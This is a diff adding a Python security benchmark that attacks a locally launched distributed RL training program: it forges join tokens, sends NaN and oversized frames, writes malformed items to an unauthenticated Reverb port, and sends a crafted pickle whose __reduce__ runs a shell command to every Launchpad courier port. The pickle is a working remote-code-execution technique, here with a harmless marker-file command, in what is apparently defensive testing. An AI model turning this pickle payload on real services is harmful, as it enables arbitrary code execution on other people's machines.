@@ -1,0 +1,211 @@
+"""The attacks of issue 29 on a running program, as an outsider would try
+them; writes what each did (``bench/results/security/attacks_after.json``)
+and the program's listeners (``ss -ltnp``).
+
+  python bench/attacks.py [--out_dir=bench/results/security]
+
+Starts a smoke ``--distributed --join_slots=2`` program (one local actor)
+and, with no secret: connects to the join service with a wrong secret and
+with a pickle whose ``__reduce__`` writes a marker file; with the secret:
+forges a claim token, sends a NaN step and an oversized frame; then,
+bypassing the service, writes malformed and NaN items to the Reverb port
+directly and sends the same pickle to every courier port of the program
+(Launchpad's servers, which listen on every interface and unpickle what
+they receive: README "Security"). The program must still reach its step
+budget; the learner's rows say what it dropped.
+"""
+
+import argparse
+import json
+import os
+import pickle
+import re
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import time
+
+import numpy as np
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+ROOT = os.path.dirname(HERE)
+sys.path.insert(0, ROOT)
+RUN_DMC = os.path.join(ROOT, 'experiments', 'run_dmc.py')
+SMOKE = os.path.join(ROOT, 'experiments', 'flags', 'smoke.flags')
+
+
+class Evil:
+  """A pickle that runs a shell command when loaded."""
+
+  def __init__(self, marker):
+    self.marker = marker
+
+  def __reduce__(self):
+    return (os.system, (f'echo $PPID >> {self.marker}',))
+
+
+def listeners(pids):
+  """{port: pid} of the TCP listeners of ``pids`` (ss -ltnp)."""
+  out = subprocess.run(['ss', '-ltnp'], capture_output=True, text=True).stdout
+  ports = {}
+  for line in out.splitlines():
+    m = re.search(r':(\d+)\s+\S+\s+users:.*pid=(\d+)', line)
+    if m and int(m.group(2)) in pids:
+      ports[int(m.group(1))] = int(m.group(2))
+  return out, ports
+
+
+def main():
+  import agent  # noqa: F401
+  import courier
+  import psutil
+  import reverb
+
+  from experiments.layouts.distributed.join import wire
+  from experiments.layouts.distributed.secret import read_secret
+  from reverb_tables.adder import step_layout_from_server
+
+  p = argparse.ArgumentParser()
+  p.add_argument('--out_dir', default=os.path.join(HERE, 'results', 'security'))
+  p.add_argument('--env_steps', type=int, default=12000)
+  args = p.parse_args()
+  work = tempfile.mkdtemp(prefix='attacks-')
+  logdir = os.path.join(work, 'run')
+  marker = os.path.join(work, 'pwned')
+  program = subprocess.Popen(
+      [sys.executable, RUN_DMC, f'--flagfile={SMOKE}', f'--logdir={logdir}',
+       '--distributed', '--num_actors=1', f'--env_steps={args.env_steps}',
+       '--eval_episodes=0', '--noreport', '--join_slots=2',
+       '--log_every=200', '--checkpoint_every=30'],
+      stdout=open(os.path.join(work, 'program.log'), 'w'),
+      stderr=subprocess.STDOUT, env={**os.environ, 'PYTHONUNBUFFERED': '1'})
+  out = {}
+  try:
+    while not os.path.exists(os.path.join(logdir, 'join.json')):
+      assert program.poll() is None
+      time.sleep(1)
+    time.sleep(3)
+    pids = {c.pid for c in psutil.Process(program.pid).children(recursive=True)}
+    ss, ports = listeners(pids)
+    with open(os.path.join(args.out_dir, 'ss_after.txt'), 'w') as f:
+      f.write(ss)
+    address = json.load(open(os.path.join(logdir, 'join.json')))['address']
+    host, port = wire.parse_address(address)
+    secret = read_secret(os.path.join(logdir, 'join.secret'))
+
+    def attempt(name, fn):
+      try:
+        out[name] = fn()
+      except Exception as e:  # noqa: BLE001
+        out[name] = f'refused: {type(e).__name__}: {str(e)[:160]}'
+
+    attempt('join service: wrong secret', lambda: wire.connect(
+        host, port, b'\x02' * 32, 1 << 20) and 'accepted')
+
+    def pickle_to_service():
+      with socket.create_connection((host, port), timeout=20) as s:
+        s.recv(48)
+        s.sendall(pickle.dumps(Evil(marker)).ljust(64, b'\0'))
+        answer = s.recv(4)
+      time.sleep(1)
+      return (f'answer {answer!r}; code ran: {os.path.exists(marker)}')
+    attempt('join service: pickled payload', pickle_to_service)
+
+    def claimed():
+      conn = wire.connect(host, port, secret, 1 << 24)
+      conn.send({'type': 'claim', 'num_envs': 1, 'who': 'bench'})
+      return conn, conn.recv()[0]
+
+    def forged():
+      conn, t = claimed()
+      conn.send({'type': 'heartbeat', 'claim': t['claim'] + 100,
+                 'token': 'f' * 32})
+      return str(conn.recv()[0])
+    attempt('join service: forged claim token', forged)
+
+    def nan_step():
+      conn, t = claimed()
+      arrays = [np.zeros((1, 3), np.float32) for _ in t['names']]
+      conn.send({'type': 'steps', 'claim': t['claim'], 'token': t['token'],
+                 'names': t['names']}, arrays)
+      return str(conn.recv()[0])
+    attempt('join service: malformed step', nan_step)
+
+    def oversized():
+      conn, _ = claimed()
+      conn.sock.sendall((1 << 30).to_bytes(4, 'big'))
+      conn.sock.settimeout(20)
+      return f'connection closed: {conn.sock.recv(1) == b""}'
+    attempt('join service: 1 GiB frame', oversized)
+
+    replay_port = next(p for p in ports if p != port and _is_reverb(p))
+    r = reverb.Client(f'127.0.0.1:{replay_port}')
+    layout = step_layout_from_server(r)
+    L = int(r.server_info()['uniform'].signature['step'].shape[0])
+    flat = [np.zeros((L,) + f.shape, f.dtype) for f in layout.fields]
+    names = [f.name for f in layout.fields]
+    flat[names.index('observation/position')][2, 0] = np.nan
+    rows = layout.pack(flat, L)
+
+    def reverb_nan_items():
+      for _ in range(20):
+        with r.trajectory_writer(num_keep_alive_refs=L) as w:
+          for row in rows:
+            w.append({'step': row})
+          w.create_item('uniform', 1.0, {'step': w.history['step'][-L:]})
+      r.insert([rows], {'uniform': 1.0})       # a column of another shape
+      return 'accepted by the Reverb server (no authentication)'
+    attempt('Reverb port: 20 NaN items + 1 malformed item', reverb_nan_items)
+
+    def courier_pickles():
+      ran = []
+      for p in sorted(ports):
+        if p in (port, replay_port):
+          continue
+        before = open(marker).read().split() if os.path.exists(marker) else []
+        try:
+          courier.Client(f'127.0.0.1:{p}', call_timeout=10).run(Evil(marker))
+        except Exception:  # noqa: BLE001
+          pass
+        time.sleep(0.5)
+        after = open(marker).read().split() if os.path.exists(marker) else []
+        if len(after) > len(before):
+          ran.append(p)
+      return (f'code ran through {len(ran)} of '
+              f'{len(ports) - 2} courier ports (Launchpad\'s servers '
+              'unpickle; firewall them)')
+    attempt("Launchpad courier ports: pickled payload", courier_pickles)
+    program.wait(900)
+    out['program exit'] = program.returncode
+    rows_ = [json.loads(line) for line in open(os.path.join(logdir,
+                                                           'metrics.jsonl'))
+             if '"train"' in line]
+    last = rows_[-1]
+    out['program at the end'] = {k: last.get(k) for k in (
+        'env_step', 'updates', 'replay/dropped_items', 'learner/bad_batches',
+        'learner/skipped_updates', 'join/refused', 'replay/ratio_after_fill')}
+    out['restarts'] = (open(os.path.join(logdir, 'restarts.jsonl')).read()
+                       if os.path.exists(os.path.join(logdir,
+                                                      'restarts.jsonl')) else '')
+  finally:
+    if program.poll() is None:
+      program.kill()
+  print(json.dumps(out, indent=1))
+  with open(os.path.join(args.out_dir, 'attacks_after.json'), 'w') as f:
+    json.dump(out, f, indent=1)
+  shutil.rmtree(work, ignore_errors=True)
+
+
+def _is_reverb(port: int) -> bool:
+  import reverb
+  try:
+    reverb.Client(f'127.0.0.1:{port}').server_info(timeout=3)
+    return True
+  except Exception:  # noqa: BLE001
+    return False
+
+
+if __name__ == '__main__':
+  main()
